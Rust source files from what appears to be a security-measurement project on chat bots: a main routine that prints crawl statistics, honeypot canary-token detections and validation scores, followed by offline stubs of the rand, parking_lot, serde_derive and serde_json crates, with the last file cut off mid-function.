        stats.bots, stats.pages, stats.captchas_solved, stats.captcha_spend_dollars, stats.duration
    );

    println!("{}", render_figure3(&figure3_distribution(&bots, 20)));
    println!("{}", render_table1(&table1_histogram(&bots)));
    println!("{}", render_table2(&table2_traceability(&bots)));
    println!("{}", render_table3(&table3_code_analysis(&bots)));

    println!("Stage 4  dynamic analysis: honeypot the 40 most-voted bots");
    let campaign = pipeline.run_honeypot(&eco);
    println!(
        "         {} guilds, {} canary tokens, {} feed messages",
        campaign.guilds_created, campaign.tokens_planted, campaign.messages_posted
    );
    for det in &campaign.detections {
        println!(
            "         DETECTION: {:12} tokens={:?} followups={:?}",
            det.bot_name, det.token_kinds, det.followup_messages
        );
    }

    println!("\nPer-bot risk flags (first 10 flagged bots):");
    let detected: Vec<&str> = campaign
        .detections
        .iter()
        .map(|d| d.bot_name.as_str())
        .collect();
    let mut shown = 0;
    for bot in &bots {
        let hit = detected.contains(&bot.crawled.scraped.name.as_str());
        let report = risk_report(bot, hit);
        if report.flags.iter().any(|f| {
            matches!(
                f,
                RiskFlag::HoneypotDetection
                    | RiskFlag::RedundantAdminRequest
                    | RiskFlag::NoInvokerChecks
            )
        }) && shown < 10
        {
            println!("  {:20} {:?}", report.name, report.flags);
            shown += 1;
        }
    }

    println!("\nValidation against planted ground truth:");
    let v = validate_against_truth(&bots, &eco.truth, Some(&campaign));
    println!(
        "  invite validity   p={:.3} r={:.3}\n  policy discovery  p={:.3} r={:.3}\n  traceability agreement {:.3}\n  repo resolution   p={:.3} r={:.3}\n  check detection   p={:.3} r={:.3}\n  honeypot          p={:.3} r={:.3}",
        v.invite_validity.precision(), v.invite_validity.recall(),
        v.policy_discovery.precision(), v.policy_discovery.recall(),
        v.traceability_agreement,
        v.repo_resolution.precision(), v.repo_resolution.recall(),
        v.check_detection.precision(), v.check_detection.recall(),
        v.honeypot_detection.precision(), v.honeypot_detection.recall(),
    );
}
