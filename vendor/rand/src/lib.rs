//! Offline-compatible subset of the `rand` 0.8 API.
//!
//! The build environment has no crates.io access, so the workspace vendors
//! the handful of `rand` items it actually uses: `StdRng` (here a
//! deterministic xoshiro256++ seeded through splitmix64), the `RngCore` /
//! `SeedableRng` core traits, and the `Rng` extension trait with
//! `gen`, `gen_range` and `gen_bool`.
//!
//! The streams produced are high-quality and fully deterministic per seed,
//! but do NOT match upstream `rand`'s `StdRng` (ChaCha12) byte-for-byte.
//! All golden numbers in this repository are pinned against this
//! implementation.

#![forbid(unsafe_code)]

use std::ops::{Range, RangeInclusive};

/// Core RNG interface: an object-safe source of random bits.
pub trait RngCore {
    fn next_u32(&mut self) -> u32;
    fn next_u64(&mut self) -> u64;
    fn fill_bytes(&mut self, dest: &mut [u8]);
}

impl<R: RngCore + ?Sized> RngCore for &mut R {
    fn next_u32(&mut self) -> u32 {
        (**self).next_u32()
    }
    fn next_u64(&mut self) -> u64 {
        (**self).next_u64()
    }
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        (**self).fill_bytes(dest)
    }
}

/// RNGs constructible from a seed.
pub trait SeedableRng: Sized {
    type Seed: Default + AsMut<[u8]>;

    fn from_seed(seed: Self::Seed) -> Self;

    fn seed_from_u64(state: u64) -> Self {
        let mut seed = Self::Seed::default();
        let bytes = seed.as_mut();
        let mut sm = SplitMix64::new(state);
        for chunk in bytes.chunks_mut(8) {
            let v = sm.next().to_le_bytes();
            let n = chunk.len();
            chunk.copy_from_slice(&v[..n]);
        }
        Self::from_seed(seed)
    }
}

/// splitmix64: used to expand u64 seeds into full RNG state.
pub(crate) struct SplitMix64 {
    state: u64,
}

impl SplitMix64 {
    pub(crate) fn new(state: u64) -> Self {
        SplitMix64 { state }
    }

    pub(crate) fn next(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
}

/// Sampling from the "standard" distribution (uniform over the type's
/// natural domain; floats uniform in `[0, 1)`).
pub trait Standard: Sized {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

impl Standard for u32 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u32()
    }
}

impl Standard for u64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64()
    }
}

impl Standard for bool {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Standard for f64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        // 53 uniform bits in [0, 1).
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

impl Standard for u8 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u32() as u8
    }
}

/// A range usable with [`Rng::gen_range`].
pub trait SampleRange {
    type Output;
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> Self::Output;
}

/// Unbiased integer sampling in `[0, bound)` via Lemire-style rejection.
fn uniform_below<R: RngCore + ?Sized>(rng: &mut R, bound: u64) -> u64 {
    debug_assert!(bound > 0);
    let zone = u64::MAX - (u64::MAX - bound + 1) % bound;
    loop {
        let v = rng.next_u64();
        if v <= zone {
            return v % bound;
        }
    }
}

macro_rules! int_sample_range {
    ($($t:ty),*) => {$(
        impl SampleRange for Range<$t> {
            type Output = $t;
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "gen_range: empty range");
                let span = (self.end as i128 - self.start as i128) as u64;
                let off = uniform_below(rng, span);
                ((self.start as i128) + off as i128) as $t
            }
        }
        impl SampleRange for RangeInclusive<$t> {
            type Output = $t;
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "gen_range: empty range");
                let span = (hi as i128 - lo as i128) as u64;
                if span == u64::MAX {
                    return rng.next_u64() as $t;
                }
                let off = uniform_below(rng, span + 1);
                ((lo as i128) + off as i128) as $t
            }
        }
    )*};
}

int_sample_range!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! float_sample_range {
    ($($t:ty),*) => {$(
        impl SampleRange for Range<$t> {
            type Output = $t;
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "gen_range: empty range");
                let unit = <f64 as Standard>::sample(rng) as $t;
                self.start + unit * (self.end - self.start)
            }
        }
        impl SampleRange for RangeInclusive<$t> {
            type Output = $t;
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "gen_range: empty range");
                let unit = <f64 as Standard>::sample(rng) as $t;
                lo + unit * (hi - lo)
            }
        }
    )*};
}

float_sample_range!(f32, f64);

/// Extension methods over any [`RngCore`].
pub trait Rng: RngCore {
    fn gen<T: Standard>(&mut self) -> T {
        T::sample(self)
    }

    fn gen_range<S: SampleRange>(&mut self, range: S) -> S::Output {
        range.sample_from(self)
    }

    fn gen_bool(&mut self, p: f64) -> bool {
        assert!((0.0..=1.0).contains(&p), "gen_bool: p must be in [0, 1]");
        <f64 as Standard>::sample(self) < p
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

pub mod rngs {
    use super::{RngCore, SeedableRng, SplitMix64};

    /// Deterministic xoshiro256++ generator standing in for `rand::rngs::StdRng`.
    #[derive(Debug, Clone, PartialEq, Eq)]
    pub struct StdRng {
        s: [u64; 4],
    }

    impl StdRng {
        fn next(&mut self) -> u64 {
            let result = self.s[0]
                .wrapping_add(self.s[3])
                .rotate_left(23)
                .wrapping_add(self.s[0]);
            let t = self.s[1] << 17;
            self.s[2] ^= self.s[0];
            self.s[3] ^= self.s[1];
            self.s[1] ^= self.s[2];
            self.s[0] ^= self.s[3];
            self.s[2] ^= t;
            self.s[3] = self.s[3].rotate_left(45);
            result
        }
    }

    impl RngCore for StdRng {
        fn next_u32(&mut self) -> u32 {
            (self.next() >> 32) as u32
        }

        fn next_u64(&mut self) -> u64 {
            self.next()
        }

        fn fill_bytes(&mut self, dest: &mut [u8]) {
            for chunk in dest.chunks_mut(8) {
                let v = self.next().to_le_bytes();
                let n = chunk.len();
                chunk.copy_from_slice(&v[..n]);
            }
        }
    }

    impl SeedableRng for StdRng {
        type Seed = [u8; 32];

        fn from_seed(seed: Self::Seed) -> Self {
            let mut s = [0u64; 4];
            for (i, word) in s.iter_mut().enumerate() {
                let mut b = [0u8; 8];
                b.copy_from_slice(&seed[i * 8..i * 8 + 8]);
                *word = u64::from_le_bytes(b);
            }
            // All-zero state is a fixed point for xoshiro; nudge it.
            if s == [0, 0, 0, 0] {
                let mut sm = SplitMix64::new(0x5eed);
                for word in &mut s {
                    *word = sm.next();
                }
            }
            StdRng { s }
        }
    }

    #[cfg(test)]
    mod tests {
        use super::*;
        use crate::Rng;

        #[test]
        fn deterministic_per_seed() {
            let mut a = StdRng::seed_from_u64(42);
            let mut b = StdRng::seed_from_u64(42);
            for _ in 0..100 {
                assert_eq!(a.next_u64(), b.next_u64());
            }
            let mut c = StdRng::seed_from_u64(43);
            assert_ne!(a.next_u64(), c.next_u64());
        }

        #[test]
        fn ranges_respect_bounds() {
            let mut rng = StdRng::seed_from_u64(7);
            for _ in 0..1000 {
                let v = rng.gen_range(10u64..20);
                assert!((10..20).contains(&v));
                let f = rng.gen_range(0.25f64..0.75);
                assert!((0.25..0.75).contains(&f));
                let i = rng.gen_range(-5i64..=5);
                assert!((-5..=5).contains(&i));
            }
        }

        #[test]
        fn gen_bool_extremes() {
            let mut rng = StdRng::seed_from_u64(9);
            assert!(!rng.gen_bool(0.0));
            assert!(rng.gen_bool(1.0));
        }

        #[test]
        fn unit_float_in_range() {
            let mut rng = StdRng::seed_from_u64(11);
            for _ in 0..1000 {
                let f: f64 = rng.gen();
                assert!((0.0..1.0).contains(&f));
            }
        }
    }
}
