//! Offline-compatible subset of the `parking_lot` API.
//!
//! Wraps `std::sync` primitives with `parking_lot`'s non-poisoning
//! signatures (`lock()` / `read()` / `write()` return guards directly).
//! A poisoned std lock (a panic while held) just propagates the inner
//! guard, matching parking_lot's "no poisoning" semantics.

#![forbid(unsafe_code)]

use std::fmt;
use std::sync::{
    Mutex as StdMutex, MutexGuard, RwLock as StdRwLock, RwLockReadGuard, RwLockWriteGuard,
};

pub struct Mutex<T: ?Sized> {
    inner: StdMutex<T>,
}

impl<T> Mutex<T> {
    pub fn new(value: T) -> Self {
        Mutex {
            inner: StdMutex::new(value),
        }
    }

    pub fn into_inner(self) -> T {
        self.inner.into_inner().unwrap_or_else(|p| p.into_inner())
    }
}

impl<T: ?Sized> Mutex<T> {
    pub fn lock(&self) -> MutexGuard<'_, T> {
        self.inner.lock().unwrap_or_else(|p| p.into_inner())
    }

    pub fn try_lock(&self) -> Option<MutexGuard<'_, T>> {
        match self.inner.try_lock() {
            Ok(g) => Some(g),
            Err(std::sync::TryLockError::Poisoned(p)) => Some(p.into_inner()),
            Err(std::sync::TryLockError::WouldBlock) => None,
        }
    }

    pub fn get_mut(&mut self) -> &mut T {
        self.inner.get_mut().unwrap_or_else(|p| p.into_inner())
    }
}

impl<T: Default> Default for Mutex<T> {
    fn default() -> Self {
        Mutex::new(T::default())
    }
}

impl<T: ?Sized + fmt::Debug> fmt::Debug for Mutex<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.try_lock() {
            Some(g) => f.debug_struct("Mutex").field("data", &&*g).finish(),
            None => f.debug_struct("Mutex").field("data", &"<locked>").finish(),
        }
    }
}

pub struct RwLock<T: ?Sized> {
    inner: StdRwLock<T>,
}

impl<T> RwLock<T> {
    pub fn new(value: T) -> Self {
        RwLock {
            inner: StdRwLock::new(value),
        }
    }

    pub fn into_inner(self) -> T {
        self.inner.into_inner().unwrap_or_else(|p| p.into_inner())
    }
}

impl<T: ?Sized> RwLock<T> {
    pub fn read(&self) -> RwLockReadGuard<'_, T> {
        self.inner.read().unwrap_or_else(|p| p.into_inner())
    }

    pub fn write(&self) -> RwLockWriteGuard<'_, T> {
        self.inner.write().unwrap_or_else(|p| p.into_inner())
    }

    pub fn get_mut(&mut self) -> &mut T {
        self.inner.get_mut().unwrap_or_else(|p| p.into_inner())
    }
}

impl<T: Default> Default for RwLock<T> {
    fn default() -> Self {
        RwLock::new(T::default())
    }
}

impl<T: ?Sized + fmt::Debug> fmt::Debug for RwLock<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("RwLock").finish_non_exhaustive()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mutex_roundtrip() {
        let m = Mutex::new(1);
        *m.lock() += 1;
        assert_eq!(*m.lock(), 2);
        assert_eq!(m.into_inner(), 2);
    }

    #[test]
    fn rwlock_roundtrip() {
        let l = RwLock::new(vec![1]);
        l.write().push(2);
        assert_eq!(l.read().len(), 2);
    }
}
