//! Offline-compatible `#[derive(Serialize)]` / `#[derive(Deserialize)]`.
//!
//! The real serde_derive depends on syn/quote, which are unavailable in
//! this build environment, so this crate parses the derive input token
//! stream by hand. It supports exactly the shapes this workspace uses:
//! non-generic structs (named, tuple, unit) and enums (unit, named-field
//! and tuple variants), with no `#[serde(...)]` attributes.
//!
//! Generated impls follow serde_json's data conventions:
//! named struct → object; newtype struct → inner value; tuple struct →
//! array; unit variant → `"Variant"`; data variant → `{"Variant": ...}`.

use proc_macro::{Delimiter, TokenStream, TokenTree};

enum Fields {
    Named(Vec<String>),
    Tuple(usize),
    Unit,
}

struct Input {
    name: String,
    kind: Kind,
}

enum Kind {
    Struct(Fields),
    Enum(Vec<(String, Fields)>),
}

fn parse_input(input: TokenStream) -> Input {
    let tokens: Vec<TokenTree> = input.into_iter().collect();
    let mut i = 0;

    skip_attrs_and_vis(&tokens, &mut i);

    let keyword = match &tokens[i] {
        TokenTree::Ident(id) => id.to_string(),
        other => panic!("serde_derive: expected struct/enum, found {other}"),
    };
    i += 1;

    let name = match &tokens[i] {
        TokenTree::Ident(id) => id.to_string(),
        other => panic!("serde_derive: expected type name, found {other}"),
    };
    i += 1;

    if matches!(&tokens.get(i), Some(TokenTree::Punct(p)) if p.as_char() == '<') {
        panic!("serde_derive stub: generic type `{name}` is not supported");
    }

    match keyword.as_str() {
        "struct" => {
            let fields = match tokens.get(i) {
                Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
                    Fields::Named(parse_named_fields(g.stream()))
                }
                Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                    Fields::Tuple(count_tuple_fields(g.stream()))
                }
                Some(TokenTree::Punct(p)) if p.as_char() == ';' => Fields::Unit,
                other => panic!("serde_derive: unexpected struct body {other:?}"),
            };
            Input {
                name,
                kind: Kind::Struct(fields),
            }
        }
        "enum" => {
            let body = match tokens.get(i) {
                Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => g.stream(),
                other => panic!("serde_derive: expected enum body, found {other:?}"),
            };
            Input {
                name,
                kind: Kind::Enum(parse_variants(body)),
            }
        }
        other => panic!("serde_derive: expected struct or enum, found `{other}`"),
    }
}

fn skip_attrs_and_vis(tokens: &[TokenTree], i: &mut usize) {
    loop {
        match tokens.get(*i) {
            // `#[...]` attribute (doc comments included).
            Some(TokenTree::Punct(p)) if p.as_char() == '#' => {
                *i += 2;
            }
            // `pub` / `pub(crate)` visibility.
            Some(TokenTree::Ident(id)) if id.to_string() == "pub" => {
                *i += 1;
                if matches!(tokens.get(*i), Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis)
                {
                    *i += 1;
                }
            }
            _ => return,
        }
    }
}

/// Split a field-list stream at commas that sit outside nested groups AND
/// outside `<...>` generic argument lists (angle brackets are bare puncts
/// in a token stream).
fn split_top_level(stream: TokenStream) -> Vec<Vec<TokenTree>> {
    let mut out = Vec::new();
    let mut current = Vec::new();
    let mut angle_depth = 0i32;
    for tok in stream {
        match &tok {
            TokenTree::Punct(p) if p.as_char() == '<' => angle_depth += 1,
            TokenTree::Punct(p) if p.as_char() == '>' => angle_depth -= 1,
            TokenTree::Punct(p) if p.as_char() == ',' && angle_depth == 0 => {
                out.push(std::mem::take(&mut current));
                continue;
            }
            _ => {}
        }
        current.push(tok);
    }
    if !current.is_empty() {
        out.push(current);
    }
    out
}

fn parse_named_fields(stream: TokenStream) -> Vec<String> {
    split_top_level(stream)
        .into_iter()
        .filter(|seg| !seg.is_empty())
        .map(|seg| {
            let mut i = 0;
            skip_attrs_and_vis(&seg, &mut i);
            match &seg[i] {
                TokenTree::Ident(id) => id.to_string(),
                other => panic!("serde_derive: expected field name, found {other}"),
            }
        })
        .collect()
}

fn count_tuple_fields(stream: TokenStream) -> usize {
    split_top_level(stream)
        .into_iter()
        .filter(|seg| !seg.is_empty())
        .count()
}

fn parse_variants(stream: TokenStream) -> Vec<(String, Fields)> {
    split_top_level(stream)
        .into_iter()
        .filter(|seg| !seg.is_empty())
        .map(|seg| {
            let mut i = 0;
            skip_attrs_and_vis(&seg, &mut i);
            let name = match &seg[i] {
                TokenTree::Ident(id) => id.to_string(),
                other => panic!("serde_derive: expected variant name, found {other}"),
            };
            i += 1;
            let fields = match seg.get(i) {
                Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
                    Fields::Named(parse_named_fields(g.stream()))
                }
                Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                    Fields::Tuple(count_tuple_fields(g.stream()))
                }
                _ => Fields::Unit,
            };
            (name, fields)
        })
        .collect()
}

#[proc_macro_derive(Serialize)]
pub fn derive_serialize(input: TokenStream) -> TokenStream {
    let parsed = parse_input(input);
    let name = &parsed.name;
    let body = match &parsed.kind {
        Kind::Struct(Fields::Named(fields)) => {
            let entries: Vec<String> = fields
                .iter()
                .map(|f| {
                    format!("(\"{f}\".to_string(), ::serde::Serialize::to_json_value(&self.{f}))")
                })
                .collect();
            format!(
                "::serde::value::Value::Object(vec![{}])",
                entries.join(", ")
            )
        }
        Kind::Struct(Fields::Tuple(1)) => "::serde::Serialize::to_json_value(&self.0)".to_string(),
        Kind::Struct(Fields::Tuple(n)) => {
            let items: Vec<String> = (0..*n)
                .map(|i| format!("::serde::Serialize::to_json_value(&self.{i})"))
                .collect();
            format!("::serde::value::Value::Array(vec![{}])", items.join(", "))
        }
        Kind::Struct(Fields::Unit) => "::serde::value::Value::Null".to_string(),
        Kind::Enum(variants) => {
            let arms: Vec<String> = variants
                .iter()
                .map(|(v, fields)| match fields {
                    Fields::Unit => {
                        format!("{name}::{v} => ::serde::value::Value::String(\"{v}\".to_string())")
                    }
                    Fields::Named(fs) => {
                        let binds = fs.join(", ");
                        let entries: Vec<String> = fs
                            .iter()
                            .map(|f| {
                                format!(
                                    "(\"{f}\".to_string(), ::serde::Serialize::to_json_value({f}))"
                                )
                            })
                            .collect();
                        format!(
                            "{name}::{v} {{ {binds} }} => ::serde::value::Value::Object(vec![\
                             (\"{v}\".to_string(), ::serde::value::Value::Object(vec![{}]))])",
                            entries.join(", ")
                        )
                    }
                    Fields::Tuple(1) => format!(
                        "{name}::{v}(__f0) => ::serde::value::Value::Object(vec![\
                         (\"{v}\".to_string(), ::serde::Serialize::to_json_value(__f0))])"
                    ),
                    Fields::Tuple(n) => {
                        let binds: Vec<String> = (0..*n).map(|i| format!("__f{i}")).collect();
                        let items: Vec<String> = binds
                            .iter()
                            .map(|b| format!("::serde::Serialize::to_json_value({b})"))
                            .collect();
                        format!(
                            "{name}::{v}({}) => ::serde::value::Value::Object(vec![\
                             (\"{v}\".to_string(), ::serde::value::Value::Array(vec![{}]))])",
                            binds.join(", "),
                            items.join(", ")
                        )
                    }
                })
                .collect();
            format!("match self {{ {} }}", arms.join(", "))
        }
    };
    let out = format!(
        "impl ::serde::Serialize for {name} {{\n\
         fn to_json_value(&self) -> ::serde::value::Value {{ {body} }}\n\
         }}"
    );
    out.parse().expect("serde_derive: generated impl parses")
}

#[proc_macro_derive(Deserialize)]
pub fn derive_deserialize(input: TokenStream) -> TokenStream {
    let parsed = parse_input(input);
    let name = &parsed.name;
    let body = match &parsed.kind {
        Kind::Struct(Fields::Named(fields)) => {
            let inits: Vec<String> = fields
                .iter()
                .map(|f| format!("{f}: ::serde::de_field(value, \"{name}\", \"{f}\")?"))
                .collect();
            format!("Ok({name} {{ {} }})", inits.join(", "))
        }
        Kind::Struct(Fields::Tuple(1)) => {
            format!("Ok({name}(::serde::Deserialize::from_json_value(value)?))")
        }
        Kind::Struct(Fields::Tuple(n)) => {
            let inits: Vec<String> = (0..*n)
                .map(|i| format!("::serde::de_index(value, \"{name}\", {i})?"))
                .collect();
            format!("Ok({name}({}))", inits.join(", "))
        }
        Kind::Struct(Fields::Unit) => format!(
            "match value {{\n\
             ::serde::value::Value::Null => Ok({name}),\n\
             other => Err(::serde::de_error(format!(\"expected null for {name}, found {{other}}\"))),\n\
             }}"
        ),
        Kind::Enum(variants) => {
            // Unit variants arrive as strings, data variants as single-key
            // objects — the shapes the Serialize derive emits.
            let unit_arms: Vec<String> = variants
                .iter()
                .filter(|(_, fields)| matches!(fields, Fields::Unit))
                .map(|(v, _)| format!("\"{v}\" => Ok({name}::{v})"))
                .collect();
            let data_arms: Vec<String> = variants
                .iter()
                .filter_map(|(v, fields)| match fields {
                    Fields::Unit => None,
                    Fields::Named(fs) => {
                        let inits: Vec<String> = fs
                            .iter()
                            .map(|f| {
                                format!(
                                    "{f}: ::serde::de_field(inner, \"{name}::{v}\", \"{f}\")?"
                                )
                            })
                            .collect();
                        Some(format!("\"{v}\" => Ok({name}::{v} {{ {} }})", inits.join(", ")))
                    }
                    Fields::Tuple(1) => Some(format!(
                        "\"{v}\" => Ok({name}::{v}(::serde::Deserialize::from_json_value(inner)?))"
                    )),
                    Fields::Tuple(n) => {
                        let inits: Vec<String> = (0..*n)
                            .map(|i| {
                                format!("::serde::de_index(inner, \"{name}::{v}\", {i})?")
                            })
                            .collect();
                        Some(format!("\"{v}\" => Ok({name}::{v}({}))", inits.join(", ")))
                    }
                })
                .collect();
            format!(
                "match value {{\n\
                 ::serde::value::Value::String(s) => match s.as_str() {{\n\
                 {unit_arms}\n\
                 other => Err(::serde::de_error(format!(\"unknown {name} variant `{{other}}`\"))),\n\
                 }},\n\
                 ::serde::value::Value::Object(entries) if entries.len() == 1 => {{\n\
                 let (key, inner) = &entries[0];\n\
                 let _ = inner;\n\
                 match key.as_str() {{\n\
                 {data_arms}\n\
                 other => Err(::serde::de_error(format!(\"unknown {name} variant `{{other}}`\"))),\n\
                 }}\n\
                 }},\n\
                 other => Err(::serde::de_error(format!(\"expected {name}, found {{other}}\"))),\n\
                 }}",
                unit_arms = unit_arms.iter().map(|a| format!("{a},")).collect::<String>(),
                data_arms = data_arms.iter().map(|a| format!("{a},")).collect::<String>(),
            )
        }
    };
    let out = format!(
        "impl ::serde::Deserialize for {name} {{\n\
         fn from_json_value(value: &::serde::value::Value) -> ::std::result::Result<Self, ::serde::DeError> {{ {body} }}\n\
         }}"
    );
    out.parse().expect("serde_derive: generated impl parses")
}
