//! Offline-compatible subset of `serde_json`: `Value`, `Map`,
//! `to_value`, `to_string`, `to_string_pretty`. Serialization only — the
//! workspace has no deserialization call sites.

#![forbid(unsafe_code)]

use std::fmt;

pub use serde::value::{Number, Value};
use serde::Serialize;

/// Serialization error. The value-tree serializer is total, so this is
/// never actually produced; it exists for API compatibility.
#[derive(Debug)]
pub struct Error(String);

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for Error {}

pub type Result<T> = std::result::Result<T, Error>;

/// Insertion-ordered string-keyed map (serde_json `Map` with the
/// `preserve_order` feature's observable behavior).
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Map {
    entries: Vec<(String, Value)>,
}

impl Map {
    pub fn new() -> Map {
        Map::default()
    }

    /// Insert, replacing (in place) any existing entry with the same key.
    pub fn insert(&mut self, key: String, value: Value) -> Option<Value> {
        for (k, v) in &mut self.entries {
            if *k == key {
                return Some(std::mem::replace(v, value));
            }
        }
        self.entries.push((key, value));
        None
    }

    pub fn get(&self, key: &str) -> Option<&Value> {
        self.entries.iter().find(|(k, _)| k == key).map(|(_, v)| v)
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    pub fn iter(&self) -> impl Iterator<Item = (&String, &Value)> {
        self.entries.iter().map(|(k, v)| (k, v))
    }
}

impl Serialize for Map {
    fn to_json_value(&self) -> Value {
        Value::Object(self.entries.clone())
    }
}

impl From<Map> for Value {
    fn from(m: Map) -> Value {
        Value::Object(m.entries)
    }
}

pub fn to_value<T: Serialize>(value: T) -> Result<Value> {
    Ok(value.to_json_value())
}

pub fn to_string<T: Serialize>(value: &T) -> Result<String> {
    Ok(value.to_json_value().render_compact())
}

pub fn to_string_pretty<T: Serialize>(value: &T) -> Result<String> {
    Ok(value.to_json_value().render_pretty())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn map_preserves_insertion_order() {
        let mut m = Map::new();
        m.insert("z".into(), Value::from(1u64));
        m.insert("a".into(), Value::from(2u64));
        assert_eq!(to_string(&m).unwrap(), "{\"z\":1,\"a\":2}");
        m.insert("z".into(), Value::from(3u64));
        assert_eq!(to_string(&m).unwrap(), "{\"z\":3,\"a\":2}");
    }

    #[test]
    fn pretty_rendering() {
        let mut m = Map::new();
        m.insert("k".into(), Value::from("v"));
        assert_eq!(to_string_pretty(&m).unwrap(), "{\n  \"k\": \"v\"\n}");
    }
}
