//! Offline-compatible subset of `serde_json`: `Value`, `Map`,
//! `to_value` / `to_string` / `to_string_pretty` / `to_vec` on the way out,
//! and a recursive-descent text parser behind `from_str` / `from_slice` /
//! `from_value` on the way back, so everything the workspace serializes
//! round-trips.

#![forbid(unsafe_code)]

use std::fmt;

pub use serde::value::{Number, Value};
use serde::{Deserialize, Serialize};

/// Serialization error. The value-tree serializer is total, so this is
/// never actually produced; it exists for API compatibility.
#[derive(Debug)]
pub struct Error(String);

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for Error {}

pub type Result<T> = std::result::Result<T, Error>;

/// Insertion-ordered string-keyed map (serde_json `Map` with the
/// `preserve_order` feature's observable behavior).
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Map {
    entries: Vec<(String, Value)>,
}

impl Map {
    pub fn new() -> Map {
        Map::default()
    }

    /// Insert, replacing (in place) any existing entry with the same key.
    pub fn insert(&mut self, key: String, value: Value) -> Option<Value> {
        for (k, v) in &mut self.entries {
            if *k == key {
                return Some(std::mem::replace(v, value));
            }
        }
        self.entries.push((key, value));
        None
    }

    pub fn get(&self, key: &str) -> Option<&Value> {
        self.entries.iter().find(|(k, _)| k == key).map(|(_, v)| v)
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    pub fn iter(&self) -> impl Iterator<Item = (&String, &Value)> {
        self.entries.iter().map(|(k, v)| (k, v))
    }
}

impl Serialize for Map {
    fn to_json_value(&self) -> Value {
        Value::Object(self.entries.clone())
    }
}

impl From<Map> for Value {
    fn from(m: Map) -> Value {
        Value::Object(m.entries)
    }
}

pub fn to_value<T: Serialize>(value: T) -> Result<Value> {
    Ok(value.to_json_value())
}

pub fn to_string<T: Serialize>(value: &T) -> Result<String> {
    Ok(value.to_json_value().render_compact())
}

pub fn to_string_pretty<T: Serialize>(value: &T) -> Result<String> {
    Ok(value.to_json_value().render_pretty())
}

pub fn to_vec<T: Serialize>(value: &T) -> Result<Vec<u8>> {
    Ok(value.to_json_value().render_compact().into_bytes())
}

pub fn from_value<T: Deserialize>(value: Value) -> Result<T> {
    T::from_json_value(&value).map_err(|e| Error(e.to_string()))
}

pub fn from_str<T: Deserialize>(text: &str) -> Result<T> {
    let value = parse_value(text)?;
    T::from_json_value(&value).map_err(|e| Error(e.to_string()))
}

pub fn from_slice<T: Deserialize>(bytes: &[u8]) -> Result<T> {
    let text = std::str::from_utf8(bytes).map_err(|e| Error(format!("invalid UTF-8: {e}")))?;
    from_str(text)
}

/// Parse a JSON document into a [`Value`] tree.
pub fn parse_value(text: &str) -> Result<Value> {
    let mut parser = Parser {
        bytes: text.as_bytes(),
        pos: 0,
    };
    let value = parser.value()?;
    parser.skip_ws();
    if parser.pos != parser.bytes.len() {
        return Err(Error(format!("trailing characters at byte {}", parser.pos)));
    }
    Ok(value)
}

/// Recursive-descent JSON reader. Accepts exactly the grammar of RFC 8259
/// (no comments, no trailing commas); numbers become `U`/`I`/`F` by shape,
/// mirroring what the writer emits.
struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl Parser<'_> {
    fn skip_ws(&mut self) {
        while matches!(self.bytes.get(self.pos), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.pos += 1;
        }
    }

    fn peek(&mut self) -> Result<u8> {
        self.skip_ws();
        self.bytes
            .get(self.pos)
            .copied()
            .ok_or_else(|| Error("unexpected end of input".to_string()))
    }

    fn expect(&mut self, byte: u8) -> Result<()> {
        if self.peek()? == byte {
            self.pos += 1;
            Ok(())
        } else {
            Err(Error(format!(
                "expected `{}` at byte {}",
                byte as char, self.pos
            )))
        }
    }

    fn literal(&mut self, word: &str, value: Value) -> Result<Value> {
